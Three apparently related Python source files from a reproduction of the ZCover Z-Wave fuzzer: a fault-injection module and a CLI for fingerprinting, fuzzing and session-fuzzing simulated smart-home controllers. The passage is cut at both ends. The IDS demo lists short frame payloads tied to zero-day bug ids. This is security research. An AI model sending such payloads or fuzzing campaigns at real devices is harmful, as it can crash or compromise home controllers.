        """Raise :class:`AbortSignal` *at_s* seconds from ``clock.now``."""

        def fire() -> None:
            self.fired = True
            self.fired_at = clock.now
            obs.inc("faults.injected.campaign.abort")
            raise AbortSignal(f"planned campaign abort at t={clock.now:.1f}s")

        clock.schedule(self.at_s, fire)
