"""Worker-layer faults: structured crash/raise/timeout injection.

The parallel executor used to honour an ad-hoc fault *string* parsed
inline in :mod:`repro.core.parallel`; the behaviour now lives here as a
structured :class:`WorkerFault` with a stable token form.  The token is
what rides the picklable :class:`~repro.core.parallel.CampaignUnit`
(plain strings keep the unit frozen, hashable and wire-clean); both the
serial and the pooled execution paths apply it through
:func:`apply_worker_fault`, so a plan's worker faults perturb a
``--workers 1`` run exactly like a sharded one.
"""

from __future__ import annotations

import os
import time
from dataclasses import dataclass
from typing import Optional

from ..errors import ReproError


class WorkerFaultError(ReproError):
    """A worker fault token could not be parsed."""


@dataclass(frozen=True)
class WorkerFault:
    """One worker-process fault.

    Kinds: ``raise`` (an exception inside the worker), ``exit`` (the
    process dies, breaking its pool), ``hang`` (sleep *seconds* of wall
    time, for timeout handling), and the transient ``raise-once`` /
    ``exit-once`` variants gated on a *marker* file so the retry
    succeeds.
    """

    kind: str
    seconds: float = 0.0
    marker: str = ""

    def to_token(self) -> str:
        """The compact string form carried by a campaign unit."""
        if self.kind == "hang":
            return f"hang:{self.seconds}"
        if self.kind in ("raise-once", "exit-once"):
            return f"{self.kind}:{self.marker}"
        return self.kind

    @classmethod
    def from_token(cls, token: str) -> "WorkerFault":
        if token in ("raise", "exit"):
            return cls(kind=token)
        if token.startswith("hang:"):
            try:
                return cls(kind="hang", seconds=float(token.split(":", 1)[1]))
            except ValueError as exc:
                raise WorkerFaultError(f"bad hang token {token!r}") from exc
        if token.startswith("raise-once:") or token.startswith("exit-once:"):
            kind, marker = token.split(":", 1)
            return cls(kind=kind, marker=marker)
        raise WorkerFaultError(f"unknown fault token {token!r}")

    @classmethod
    def from_spec_kind(cls, kind: str, magnitude: float) -> "WorkerFault":
        """Map a plan-level worker fault kind onto an executable fault."""
        if kind == "crash":
            return cls(kind="exit")
        if kind == "raise":
            return cls(kind="raise")
        if kind == "timeout":
            return cls(kind="hang", seconds=magnitude or 1.0)
        raise WorkerFaultError(f"unknown worker fault kind {kind!r}")

    def apply(self) -> None:
        """Execute the fault inside the worker process."""
        if self.kind == "raise":
            raise RuntimeError("injected fault: raise")
        if self.kind == "exit":
            os._exit(17)
        if self.kind == "hang":
            time.sleep(self.seconds)
            return
        if self.kind in ("raise-once", "exit-once"):
            # The marker file is cross-process state: the first attempt
            # creates it and fails, the retry sees it and proceeds.
            if not os.path.exists(self.marker):
                with open(self.marker, "w", encoding="utf-8") as handle:
                    handle.write("fault fired\n")
                if self.kind == "raise-once":
                    raise RuntimeError("injected fault: raise-once")
                os._exit(17)
            return
        raise WorkerFaultError(f"unknown fault kind {self.kind!r}")


def apply_worker_fault(token: Optional[str]) -> None:
    """Honour a fault token inside the worker; no-op for ``None``."""
    if not token:
        return
    WorkerFault.from_token(token).apply()
