"""Command-line interface: drive ZCover experiments from a shell.

Usage examples::

    zcover scan --device D1
    zcover discover --device D3
    zcover fuzz --device D1 --hours 1 --mode full --log bugs.jsonl
    zcover ablation --device D1 --hours 1
    zcover compare --devices D1,D2,D3 --hours 6
    zcover table --which 2

Everything runs against the simulated Table II testbed (see DESIGN.md for
the hardware-substitution rationale); durations are simulated hours, not
wall-clock hours.
"""

from __future__ import annotations

import argparse
import sys
from typing import List, Optional

from .analysis.report import (
    render_figure5,
    render_figure12,
    render_table2,
    render_table3,
    render_table5,
    render_table6,
)
from .analysis.triage import CrashTriage, render_triage_report
from .core.baseline import VFuzzBaseline
from .core.buglog import BugLog
from .core.campaign import HOUR, Mode, run_ablation, run_campaign
from .core.discovery import discover_unknown_properties
from .core.fingerprint import fingerprint
from .core.trials import run_trials
from .obs.export import (
    load_document,
    render_prometheus,
    render_text,
    snapshot_to_document,
    write_document,
)
from .obs.metrics import merge_all
from .obs.tracing import Tracer
from .radio.trace import dissect_trace, load_trace, save_trace, TraceRecord
from .simulator.testbed import CONTROLLER_IDS, build_sut
from .zwave.registry import load_full_registry

_MODES = {"full": Mode.FULL, "beta": Mode.BETA, "gamma": Mode.GAMMA}


def _add_device(parser: argparse.ArgumentParser) -> None:
    parser.add_argument(
        "--device",
        default="D1",
        choices=CONTROLLER_IDS,
        help="Table II controller to target (default D1)",
    )


def _add_common(parser: argparse.ArgumentParser) -> None:
    _add_device(parser)
    parser.add_argument("--seed", type=int, default=0, help="deterministic seed")


def _add_workers(parser: argparse.ArgumentParser) -> None:
    parser.add_argument(
        "--workers",
        type=int,
        default=1,
        help="shard independent campaigns over N worker processes "
        "(0 = one per CPU core; results are identical to --workers 1)",
    )


def _resolve_workers_arg(args: argparse.Namespace) -> int:
    """Map the CLI convention (0 = auto) onto an explicit worker count."""
    from .core.parallel import resolve_workers

    return resolve_workers(None) if args.workers == 0 else args.workers


def _add_metrics_out(parser: argparse.ArgumentParser) -> None:
    parser.add_argument(
        "--metrics-out",
        help="write the merged observability metrics (schema-v1 JSON) here",
    )


def _add_scheduler(parser: argparse.ArgumentParser) -> None:
    parser.add_argument(
        "--scheduler",
        choices=("static", "coverage"),
        default="static",
        help="PSM window scheduler: 'static' walks the priority queue with "
        "fixed C_T windows (the paper's design); 'coverage' assigns energy "
        "adaptively from the obs coverage bitmap (repro.core.scheduler). "
        "Deterministic either way: same (device, mode, seed, scheduler) "
        "gives the same bytes, serial or --workers N.",
    )


def _add_fault_plan(parser: argparse.ArgumentParser) -> None:
    parser.add_argument(
        "--fault-plan",
        help="run under deterministic fault injection: a stock plan name "
        "(canonical, lossy, flaky) or a fault-plan JSON file",
    )


def _resolve_fault_plan(args: argparse.Namespace):
    """Resolve ``--fault-plan`` (or ``--plan``) to a FaultPlan, or None."""
    ref = getattr(args, "fault_plan", None) or getattr(args, "plan", None)
    if not ref:
        return None
    from .faults.plan import resolve_plan

    return resolve_plan(ref)


def cmd_scan(args: argparse.Namespace) -> int:
    """Phase 1: fingerprint the target and print the network profile."""
    sut = build_sut(args.device, seed=args.seed)
    props = fingerprint(sut.dongle, sut.clock)
    print(f"device             : {args.device} ({sut.profile.brand} {sut.profile.model})")
    print(f"home id            : {props.home_id:08X}")
    print(f"controller node id : 0x{props.controller_node_id:02X}")
    print(f"observed nodes     : {sorted(props.observed_node_ids)}")
    print(f"listed CMDCLs ({props.known_count}) : {[hex(c) for c in props.listed_cmdcls]}")
    return 0


def cmd_discover(args: argparse.Namespace) -> int:
    """Phase 2: discover hidden command classes and print them."""
    sut = build_sut(args.device, seed=args.seed)
    props = fingerprint(sut.dongle, sut.clock)
    props = discover_unknown_properties(sut.dongle, sut.clock, props)
    print(f"known CMDCLs   : {props.known_count}")
    print(f"unknown CMDCLs : {props.unknown_count}")
    print(f"  spec-inferred: {[hex(c) for c in props.validated_unknown]}")
    print(f"  proprietary  : {[hex(c) for c in props.proprietary]}")
    print(f"fuzzing set    : {len(props.all_cmdcls)} CMDCLs")
    return 0


def cmd_fuzz(args: argparse.Namespace) -> int:
    """Phase 3: run one fuzzing campaign and print the findings."""
    mode = _MODES[args.mode]
    result = run_campaign(
        device=args.device,
        mode=mode,
        duration=args.hours * HOUR,
        seed=args.seed,
    )
    print(f"mode                : {mode.value}")
    print(f"packets sent        : {result.fuzz.packets_sent}")
    print(f"CMDCL / CMD coverage: {result.fuzz.cmdcl_coverage} / {result.fuzz.cmd_coverage}")
    print(f"detections (w/ dup) : {len(result.fuzz.detections)}")
    print(f"unique bugs         : {result.unique_vulnerabilities}")
    for t, pkt, bug_id in result.discovery_timeline():
        label = f"bug #{bug_id:02d}" if bug_id else "unmatched"
        print(f"  t={t:8.1f}s  packet={pkt:6d}  {label}")
    if args.log:
        result.fuzz.bug_log.save(args.log)
        print(f"bug log saved to {args.log}")
    if args.json:
        import json

        with open(args.json, "w", encoding="utf-8") as handle:
            json.dump(result.to_dict(), handle, indent=2)
        print(f"campaign summary saved to {args.json}")
    return 0


def cmd_ablation(args: argparse.Namespace) -> int:
    """Run the Table VI ablation (full vs beta vs gamma).

    With ``--scheduler coverage`` a fourth arm runs: FULL mode under the
    coverage-guided scheduler, so the table compares frames-to-first-
    zero-day between static and adaptive scheduling.
    """
    from .core.campaign import arm_name

    results = run_ablation(
        device=args.device,
        duration=args.hours * HOUR,
        seed=args.seed,
        workers=_resolve_workers_arg(args),
        fault_plan=_resolve_fault_plan(args),
        scheduler=args.scheduler,
    )
    print(render_table6(results))
    if args.metrics_out:
        merged = merge_all(
            results[key].metrics
            for key in sorted(results, key=arm_name)
            if results[key].metrics is not None
        )
        write_document(
            snapshot_to_document(
                merged,
                meta={
                    "kind": "ablation",
                    "device": args.device,
                    "duration_s": args.hours * HOUR,
                    "modes": len(results),
                },
            ),
            args.metrics_out,
        )
        print(f"metrics written to {args.metrics_out}")
    return 0


def cmd_compare(args: argparse.Namespace) -> int:
    """Run the Table V comparison (ZCover vs VFuzz)."""
    devices = [d.strip() for d in args.devices.split(",") if d.strip()]
    duration = args.hours * HOUR
    workers = _resolve_workers_arg(args)
    # Fault plans apply to the ZCover campaigns only — the VFuzz baseline
    # has no campaign/fault machinery to degrade gracefully through.
    plan = _resolve_fault_plan(args)
    vfuzz_results, zcover_results = {}, {}
    if workers > 1:
        from .core.parallel import CampaignUnit, execute_units
        from .faults.plan import dumps_plan

        plan_json = None if plan is None else dumps_plan(plan)
        units = [
            CampaignUnit(device=d, kind=kind, mode=Mode.FULL, duration=duration,
                         seed=args.seed,
                         fault_plan_json=plan_json if kind == "zcover" else None,
                         scheduler=args.scheduler if kind == "zcover" else "static")
            for d in devices
            for kind in ("vfuzz", "zcover")
        ]
        for outcome in execute_units(units, workers=workers):
            if outcome.failure is not None:
                print(outcome.failure.render(), file=sys.stderr)
                return 1
            target = vfuzz_results if outcome.unit.kind == "vfuzz" else zcover_results
            target[outcome.unit.device] = outcome.result
    else:
        for device in devices:
            sut = build_sut(device, seed=args.seed)
            vfuzz_results[device] = VFuzzBaseline(sut, seed=args.seed).run(duration)
            zcover_results[device] = run_campaign(
                device=device, mode=Mode.FULL, duration=duration, seed=args.seed,
                fault_plan=plan, scheduler=args.scheduler,
            )
    print(render_table5(vfuzz_results, zcover_results))
    if args.metrics_out:
        snapshots = []
        for device in sorted(set(vfuzz_results) | set(zcover_results)):
            for mapping in (vfuzz_results, zcover_results):
                result = mapping.get(device)
                if result is not None and result.metrics is not None:
                    snapshots.append(result.metrics)
        write_document(
            snapshot_to_document(
                merge_all(snapshots),
                meta={
                    "kind": "compare",
                    "devices": ",".join(sorted(set(vfuzz_results) | set(zcover_results))),
                    "duration_s": duration,
                },
            ),
            args.metrics_out,
        )
        print(f"metrics written to {args.metrics_out}")
    return 0


def cmd_table(args: argparse.Namespace) -> int:
    """Print a static paper table."""
    if args.which == 2:
        print(render_table2())
    elif args.which == 3:
        print(render_table3())
    elif args.which == 5:
        print("Run `zcover compare` to regenerate Table V from measurements.")
    else:
        print("Run the matching benchmark to regenerate this table.")
    return 0


def cmd_figure(args: argparse.Namespace) -> int:
    """Render a paper figure as text."""
    if args.which == 5:
        print(render_figure5(load_full_registry()))
    elif args.which == 12:
        result = run_campaign(
            device=args.device, mode=Mode.FULL, duration=args.hours * HOUR, seed=args.seed
        )
        print(render_figure12(result))
    else:
        print("Only figures 5 and 12 are renderable from the CLI.")
    return 0


def cmd_sniff(args: argparse.Namespace) -> int:
    """Capture traffic, dissect it, optionally save a trace."""
    sut = build_sut(args.device, seed=args.seed)
    sut.dongle.clear_captures()
    sut.clock.advance(args.seconds)
    captures = sut.dongle.captures()
    if args.out:
        count = save_trace(captures, args.out)
        print(f"saved {count} frames to {args.out}")
    records = [TraceRecord.from_capture(c) for c in captures[: args.limit]]
    print(dissect_trace(records))
    return 0


def cmd_replay(args: argparse.Namespace) -> int:
    """Dissect a previously saved trace file."""
    records = load_trace(args.trace)
    print(dissect_trace(records[: args.limit]))
    return 0


def cmd_triage(args: argparse.Namespace) -> int:
    """Verify, deduplicate and minimise a saved bug log."""
    log = BugLog.load(args.log)
    triage = CrashTriage(device=args.device, seed=args.seed)
    print(render_triage_report(triage.triage(log)))
    return 0


def cmd_ids(args: argparse.Namespace) -> int:
    """Train the ZMAD-style IDS on benign traffic, replay attacks."""
    from .analysis.ids import ZWaveIDS
    from .simulator.vulnerabilities import ZERO_DAYS
    from .zwave.frame import ZWaveFrame

    sut = build_sut(args.device, seed=args.seed)
    ids = ZWaveIDS(sut.profile.home_id)
    sut.dongle.clear_captures()
    sut.clock.advance(args.train_seconds)
    training = [
        (c.timestamp, c.frame)
        for c in sut.dongle.drain_captures()
        if c.frame is not None
    ]
    model = ids.train(training)
    print(f"trained on {len(training)} frames; "
          f"{len(model.known_cmdcls)} classes, "
          f"{len(model.transitions)} sequence bigrams")
    attacks = {
        7: bytes([0x5A, 0x01]), 3: bytes([0x01, 0x0D, 0x02, 0x03]),
        10: bytes([0x86, 0x13, 0x00]), 6: bytes([0x9F, 0x01]),
    }
    detected = 0
    for bug in ZERO_DAYS:
        payload = attacks.get(bug.bug_id)
        if payload is None:
            continue
        frame = ZWaveFrame(
            home_id=sut.profile.home_id, src=0x0F, dst=1, payload=payload
        )
        alerts = ids.inspect(sut.clock.now, frame)
        detected += bool(alerts)
        kinds = ", ".join(sorted({a.kind.value for a in alerts})) or "missed"
        print(f"bug #{bug.bug_id:02d}: {kinds}")
    print(f"detected {detected}/{len(attacks)} sampled attacks")
    return 0


def cmd_report(args: argparse.Namespace) -> int:
    """Run a campaign and write a markdown report (and SVG)."""
    from .analysis.plot import figure12_svg, save_svg
    from .analysis.summary import campaign_report

    result = run_campaign(
        device=args.device,
        mode=_MODES[args.mode],
        duration=args.hours * HOUR,
        seed=args.seed,
    )
    report = campaign_report(result)
    if args.out:
        with open(args.out, "w", encoding="utf-8") as handle:
            handle.write(report + "\n")
        print(f"report written to {args.out}")
    else:
        print(report)
    if args.svg:
        save_svg(figure12_svg(result), args.svg)
        print(f"figure written to {args.svg}")
    return 0


def cmd_lint(args: argparse.Namespace) -> int:
    """Run the repo's own static-analysis pass (see repro.lint)."""
    import json
    from pathlib import Path

    from .lint import run_lint
    from .lint.runner import default_analyzers
    from .obs.export import canonical_dumps

    root = Path(args.root) if args.root else None
    if args.rules:
        for analyzer in default_analyzers():
            for rule, description in sorted(analyzer.rules.items()):
                print(f"{rule}  [{analyzer.name}]  {description}")
        return 0
    cache_path = Path(args.cache) if args.cache else None
    report = run_lint(root=root, jobs=args.jobs, cache_path=cache_path)
    if args.format == "json":
        rendered = json.dumps(report.to_document(), indent=2)
    elif args.format == "sarif":
        rendered = report.render_sarif().rstrip("\n")
    else:
        rendered = report.render()
    if args.out:
        with open(args.out, "w", encoding="utf-8") as handle:
            handle.write(rendered + "\n")
        print(f"lint report written to {args.out}")
    else:
        print(rendered)

    if args.write_manifest or args.check_manifest:
        if report.manifest is None:
            print("purity manifest unavailable (flow analyzer did not run)")
            return 2
        manifest_path = Path(args.write_manifest or args.check_manifest)
        rendered_manifest = canonical_dumps(report.manifest)
        if args.write_manifest:
            manifest_path.write_text(rendered_manifest, encoding="utf-8")
            print(f"purity manifest written to {manifest_path}")
        else:
            from .lint.flow.purity import diff_manifests

            try:
                committed = json.loads(manifest_path.read_text(encoding="utf-8"))
            except (OSError, ValueError):
                print(f"purity manifest unreadable: {manifest_path}")
                return 2
            drift = diff_manifests(committed, report.manifest)
            if drift:
                print(f"purity manifest drift against {manifest_path}:")
                for line in drift:
                    print(f"  {line}")
                return 2
            print(f"purity manifest matches {manifest_path}")

    if args.strict:
        return report.strict_exit_code()
    return report.exit_code


def cmd_trials(args: argparse.Namespace) -> int:
    """Run repeated trials and print aggregate statistics."""
    summary = run_trials(
        device=args.device,
        mode=_MODES[args.mode],
        n_trials=args.trials,
        duration=args.hours * HOUR,
        base_seed=args.seed,
        workers=_resolve_workers_arg(args),
        fault_plan=_resolve_fault_plan(args),
        scheduler=args.scheduler,
    )
    print(summary.render())
    if args.metrics_out:
        write_document(summary.metrics_document(), args.metrics_out)
        print(f"metrics written to {args.metrics_out}")
    return 1 if summary.failures else 0


def cmd_chaos(args: argparse.Namespace) -> int:
    """Resilience audit: repeated trials under a fault plan.

    The same plan and seed produce a byte-identical report (and metrics
    document) on every run, serial or ``--workers N`` — that is the
    property this command exists to demonstrate and CI pins.
    """
    from .faults.plan import resolve_plan
    from .faults.report import (
        build_chaos_document,
        dumps_chaos_document,
        render_chaos_text,
    )

    plan = resolve_plan(args.plan)
    summary = run_trials(
        device=args.device,
        mode=_MODES[args.mode],
        n_trials=args.trials,
        duration=args.hours * HOUR,
        base_seed=args.seed,
        workers=_resolve_workers_arg(args),
        fault_plan=plan,
    )
    doc = build_chaos_document(summary, plan, args.seed)
    if args.format == "json":
        rendering = dumps_chaos_document(doc)
    else:
        rendering = render_chaos_text(doc) + "\n"
    if args.out:
        with open(args.out, "w", encoding="utf-8") as handle:
            handle.write(rendering)
        print(f"chaos report written to {args.out}")
    else:
        sys.stdout.write(rendering)
    if args.metrics_out:
        write_document(doc["metrics"], args.metrics_out)
        print(f"metrics written to {args.metrics_out}")
    return 1 if summary.failures else 0


def cmd_sessions(args: argparse.Namespace) -> int:
    """Stateful session fuzzing of the multi-frame protocol flows.

    Drives seeded mutated frame *sequences* (reorder, drop, replay, field
    mutation, downgrade/early-commit injection) through the explicit state
    graphs of inclusion, exclusion, replication, S0/S2 key exchange and
    OTA transfer, and matches the planted session-level oracle.  Output is
    a pure function of (device, flows, plan, seed): serial and
    ``--workers N`` runs are byte-identical, which the CI flaky-detector
    diff pins via ``--json``.
    """
    from .core.resultio import dumps_wire, session_to_wire
    from .core.session import (
        FLOWS,
        planted_vuln_ids,
        run_sessions,
        session_plan_with_trials,
    )
    from .simulator.vulnerabilities import session_vuln_by_id

    if args.flows and args.flows != "all":
        flows = tuple(flow.strip() for flow in args.flows.split(",") if flow.strip())
    else:
        flows = FLOWS
    result = run_sessions(
        device=args.device,
        flows=flows,
        seed=args.seed,
        plan=session_plan_with_trials(args.trials),
        workers=_resolve_workers_arg(args),
    )
    planted = planted_vuln_ids(result.flows)
    found = result.found_vuln_ids
    counters = result.metrics.counters if result.metrics else {}
    print(
        f"sessions {result.device} seed={result.seed}: "
        f"{len(result.flows)} flow(s), {result.total_trials} trials, "
        f"{len(found)}/{len(planted)} planted session bugs found"
    )
    for flow in result.flows:
        transitions = counters.get(f"session.transitions.{flow}", 0)
        windows = sum(
            1 for f, _trials, _reason in result.energy_trace if f == flow
        )
        print(
            f"  {flow:<12} trials={result.trials_by_flow.get(flow, 0):<3} "
            f"transitions={transitions:<3} windows={windows}"
        )
    for bug in result.bugs:
        vuln = session_vuln_by_id(bug.vuln_id)
        print(
            f"  [{bug.vuln_id}] {bug.flow} trial {bug.trial} "
            f"seq {bug.sequence_index} state={bug.state} — {vuln.name}"
        )
    missing = sorted(set(planted) - set(found))
    if missing:
        print(f"  MISSING planted bugs: {', '.join(missing)}")
    if args.json:
        with open(args.json, "w", encoding="utf-8") as handle:
            handle.write(dumps_wire(session_to_wire(result)) + "\n")
        print(f"wire result written to {args.json}")
    if args.metrics_out:
        write_document(
            snapshot_to_document(
                result.metrics,
                meta={
                    "kind": "sessions",
                    "device": result.device,
                    "seed": result.seed,
                    "flows": ",".join(result.flows),
                },
            ),
            args.metrics_out,
        )
        print(f"metrics written to {args.metrics_out}")
    return 1 if missing else 0


def cmd_obs(args: argparse.Namespace) -> int:
    """Inspect observability metrics: run a campaign or read a document.

    With ``--in`` the document comes from a previous ``--metrics-out``;
    otherwise one campaign runs here and its snapshot is rendered.
    """
    if args.in_path:
        doc = load_document(args.in_path)
        tracer = None
    else:
        tracer = Tracer()
        result = run_campaign(
            device=args.device,
            mode=_MODES[args.mode],
            duration=args.hours * HOUR,
            seed=args.seed,
            tracer=tracer,
        )
        doc = snapshot_to_document(
            result.metrics,
            meta={
                "kind": "campaign",
                "device": args.device,
                "mode": _MODES[args.mode].name,
                "duration_s": args.hours * HOUR,
                "seed": args.seed,
            },
        )
    if args.format == "json":
        import json

        rendered = json.dumps(doc, sort_keys=True, indent=2)
    elif args.format == "prom":
        rendered = render_prometheus(doc)
    else:
        rendered = render_text(doc)
    if args.out:
        with open(args.out, "w", encoding="utf-8") as handle:
            handle.write(rendered + "\n")
        print(f"metrics written to {args.out}")
    else:
        print(rendered)
    if args.trace_out:
        if tracer is None:
            print("--trace-out ignored: --in documents carry no spans", file=sys.stderr)
        else:
            count = tracer.export_jsonl(args.trace_out)
            dropped = f" ({tracer.dropped} dropped)" if tracer.dropped else ""
            print(f"{count} spans written to {args.trace_out}{dropped}", file=sys.stderr)
    return 0


def cmd_perf(args: argparse.Namespace) -> int:
    """Run the hot-path microbenchmarks and gate against a baseline.

    Emits the canonical ``BENCH_core.json`` (schema-v1).  With
    ``--baseline`` the run is compared under the tolerance gate and any
    regression makes the command exit non-zero.
    """
    from .perf import (
        PerfError,
        compare,
        dumps_document,
        load_document as load_perf_document,
        render_text as render_perf_text,
        report_to_document,
        run_bench,
        write_document as write_perf_document,
    )

    names = None
    if args.workloads:
        names = [w.strip() for w in args.workloads.split(",") if w.strip()]
    try:
        report = run_bench(names=names, fast=args.fast, repeats=args.repeats)
    except PerfError as exc:
        print(f"perf: {exc}", file=sys.stderr)
        return 2
    doc = report_to_document(report)
    if args.format == "json":
        sys.stdout.write(dumps_document(doc))
    else:
        print(render_perf_text(doc))
    if args.out:
        write_perf_document(doc, args.out)
        print(f"bench document written to {args.out}")
    if args.update_baseline:
        if not args.baseline:
            print("perf: --update-baseline requires --baseline", file=sys.stderr)
            return 2
        write_perf_document(doc, args.baseline)
        print(f"baseline updated at {args.baseline}")
        return 0
    if args.baseline:
        try:
            baseline = load_perf_document(args.baseline)
        except FileNotFoundError:
            print(
                f"perf: no baseline at {args.baseline} "
                "(run with --update-baseline to create one)",
                file=sys.stderr,
            )
            return 2
        regressions = compare(doc, baseline, tolerance=args.tolerance, only=names)
        if regressions:
            print(f"\n{len(regressions)} regression(s) vs {args.baseline}:")
            for reg in regressions:
                print(f"  [{reg.kind}] {reg.name}: {reg.detail}")
            return 1
        print(f"\nno regressions vs {args.baseline} "
              f"(tolerance {args.tolerance * 100.0:.0f}%)")
    return 0


def cmd_serve(args: argparse.Namespace) -> int:
    """Run the long-lived campaign job service until SIGTERM/SIGINT.

    Clients submit wire-v6 job specs over HTTP (``zcover submit``); the
    service shards each job across a persistent worker pool and serves
    canonical result documents byte-identical to in-process runs.  With
    ``--checkpoint``, completed units are written ahead to disk and a
    restarted service resumes unfinished jobs mid-trial-set.
    """
    from .serve.service import serve_forever

    serve_forever(
        host=args.host,
        port=args.port,
        workers=_resolve_workers_arg(args),
        checkpoint_path=args.checkpoint,
        retries=args.retries,
    )
    return 0


def cmd_submit(args: argparse.Namespace) -> int:
    """Submit a job spec to a running service (or run the oracle).

    ``--direct`` skips the service entirely and runs the same spec
    in-process, serially, emitting the oracle document — the bytes a
    service result must equal.  The CI smoke job diffs the two.
    """
    from .serve.protocol import JobSpec, SpecError, validate_spec

    flows: tuple = ()
    if args.flows:
        flows = tuple(f.strip() for f in args.flows.split(",") if f.strip())
    spec = JobSpec(
        kind=args.kind,
        device=args.device,
        mode=args.mode,
        seed=args.seed,
        trials=args.trials,
        hours=args.hours,
        scheduler=args.scheduler,
        fault_plan=args.fault_plan,
        flows=flows,
    )
    try:
        validate_spec(spec)
    except SpecError as exc:
        print(f"submit: invalid spec: {exc}", file=sys.stderr)
        return 2
    if args.direct:
        from .serve.results import direct_document, dumps_result_document

        text = dumps_result_document(direct_document(spec))
        if args.out:
            with open(args.out, "w", encoding="utf-8") as handle:
                handle.write(text)
            print(f"oracle document written to {args.out}")
        else:
            sys.stdout.write(text)
        return 0

    from .serve.client import ServeClient, ServeClientError
    from .serve.protocol import JOB_DONE

    client = ServeClient(host=args.host, port=args.port)
    try:
        status = client.submit(spec)
        print(f"job {status.job_id}: {status.state} (sequence {status.sequence})")
        if not (args.wait or args.out):
            return 0
        final = client.wait(status.job_id, timeout=args.timeout)
        if final.state != JOB_DONE:
            print(f"submit: job {final.job_id} {final.state}: {final.error}",
                  file=sys.stderr)
            return 1
        payload = client.result_bytes(final.job_id)
    except ServeClientError as exc:
        print(f"submit: {exc}", file=sys.stderr)
        return 2
    if args.out:
        with open(args.out, "wb") as handle:
            handle.write(payload)
        print(f"result document written to {args.out}")
    else:
        sys.stdout.buffer.write(payload)
    return 0


def build_parser() -> argparse.ArgumentParser:
    """Construct the argument parser with every subcommand."""
    parser = argparse.ArgumentParser(
        prog="zcover",
        description="ZCover reproduction: fuzz simulated Z-Wave controllers",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    scan = sub.add_parser("scan", help="phase 1: passive + active fingerprinting")
    _add_common(scan)
    scan.set_defaults(func=cmd_scan)

    discover = sub.add_parser("discover", help="phase 2: unknown CMDCL discovery")
    _add_common(discover)
    discover.set_defaults(func=cmd_discover)

    fuzz = sub.add_parser("fuzz", help="phase 3: run a fuzzing campaign")
    _add_common(fuzz)
    fuzz.add_argument("--hours", type=float, default=1.0, help="simulated hours")
    fuzz.add_argument("--mode", choices=sorted(_MODES), default="full")
    fuzz.add_argument("--log", help="save the bug log (JSON lines) here")
    fuzz.add_argument("--json", help="save the machine-readable summary here")
    fuzz.set_defaults(func=cmd_fuzz)

    ablation = sub.add_parser(
        "ablation",
        help="Table VI: full vs beta vs gamma "
        "(--scheduler coverage adds a coverage-guided fourth arm)",
    )
    _add_common(ablation)
    ablation.add_argument("--hours", type=float, default=1.0)
    _add_workers(ablation)
    _add_metrics_out(ablation)
    _add_fault_plan(ablation)
    _add_scheduler(ablation)
    ablation.set_defaults(func=cmd_ablation)

    compare = sub.add_parser("compare", help="Table V: ZCover vs VFuzz")
    compare.add_argument("--devices", default="D1,D2,D3,D4,D5")
    compare.add_argument("--hours", type=float, default=6.0)
    compare.add_argument("--seed", type=int, default=0)
    _add_workers(compare)
    _add_metrics_out(compare)
    _add_fault_plan(compare)
    _add_scheduler(compare)
    compare.set_defaults(func=cmd_compare)

    table = sub.add_parser("table", help="print a static paper table")
    table.add_argument("--which", type=int, default=2, choices=(2, 3, 5))
    table.set_defaults(func=cmd_table)

    figure = sub.add_parser("figure", help="render a paper figure")
    _add_common(figure)
    figure.add_argument("--which", type=int, default=5, choices=(5, 12))
    figure.add_argument("--hours", type=float, default=1.0)
    figure.set_defaults(func=cmd_figure)

    sniff = sub.add_parser("sniff", help="capture and dissect network traffic")
    _add_common(sniff)
    sniff.add_argument("--seconds", type=float, default=120.0)
    sniff.add_argument("--out", help="save the trace (JSON lines) here")
    sniff.add_argument("--limit", type=int, default=40, help="lines to print")
    sniff.set_defaults(func=cmd_sniff)

    replay = sub.add_parser("replay", help="dissect a saved trace file")
    replay.add_argument("trace", help="trace file written by `zcover sniff`")
    replay.add_argument("--limit", type=int, default=100)
    replay.set_defaults(func=cmd_replay)

    triage = sub.add_parser("triage", help="verify + dedup + minimise a bug log")
    _add_common(triage)
    triage.add_argument("--log", required=True, help="bug log from `zcover fuzz`")
    triage.set_defaults(func=cmd_triage)

    ids = sub.add_parser("ids", help="train the ZMAD-style IDS, replay attacks")
    _add_common(ids)
    ids.add_argument("--train-seconds", type=float, default=7200.0)
    ids.set_defaults(func=cmd_ids)

    report = sub.add_parser("report", help="run a campaign and write a report")
    _add_common(report)
    report.add_argument("--mode", choices=sorted(_MODES), default="full")
    report.add_argument("--hours", type=float, default=1.0)
    report.add_argument("--out", help="markdown report path (default: stdout)")
    report.add_argument("--svg", help="also write the Figure 12 panel here")
    report.set_defaults(func=cmd_report)

    trials = sub.add_parser("trials", help="repeated trials with statistics")
    _add_common(trials)
    trials.add_argument("--mode", choices=sorted(_MODES), default="full")
    trials.add_argument("--trials", type=int, default=5)
    trials.add_argument("--hours", type=float, default=1.0)
    _add_workers(trials)
    _add_metrics_out(trials)
    _add_fault_plan(trials)
    _add_scheduler(trials)
    trials.set_defaults(func=cmd_trials)

    chaos = sub.add_parser(
        "chaos", help="resilience audit: campaigns under a fault plan"
    )
    _add_common(chaos)
    chaos.add_argument(
        "--plan",
        default="canonical",
        help="stock plan name (canonical, lossy, flaky) or a plan JSON file",
    )
    chaos.add_argument("--mode", choices=sorted(_MODES), default="full")
    chaos.add_argument("--trials", type=int, default=2)
    chaos.add_argument("--hours", type=float, default=0.25)
    chaos.add_argument("--format", choices=("text", "json"), default="text")
    chaos.add_argument("--out", help="write the report here (default: stdout)")
    _add_workers(chaos)
    _add_metrics_out(chaos)
    chaos.set_defaults(func=cmd_chaos)

    sessions = sub.add_parser(
        "sessions",
        help="stateful session fuzzing: inclusion, S0/S2 handshake, OTA",
    )
    _add_common(sessions)
    sessions.add_argument(
        "--flows",
        default="all",
        help="comma-separated flow subset (inclusion, exclusion, replication, "
        "s0, s2, ota) or 'all' (default)",
    )
    sessions.add_argument(
        "--trials",
        type=int,
        default=None,
        help="trials per flow (default: the stock plan's 24; the directed "
        "probe corpus always runs first)",
    )
    _add_workers(sessions)
    sessions.add_argument(
        "--json",
        help="write the canonical wire-v5 result JSON here (byte-identical "
        "serial vs --workers N; the CI determinism diff reads this)",
    )
    _add_metrics_out(sessions)
    sessions.set_defaults(func=cmd_sessions)

    obs = sub.add_parser("obs", help="observability: metrics + tracing spans")
    _add_common(obs)
    obs.add_argument("--mode", choices=sorted(_MODES), default="full")
    obs.add_argument("--hours", type=float, default=1.0)
    obs.add_argument(
        "--in",
        dest="in_path",
        help="render an existing --metrics-out document instead of running",
    )
    obs.add_argument("--format", choices=("text", "json", "prom"), default="text")
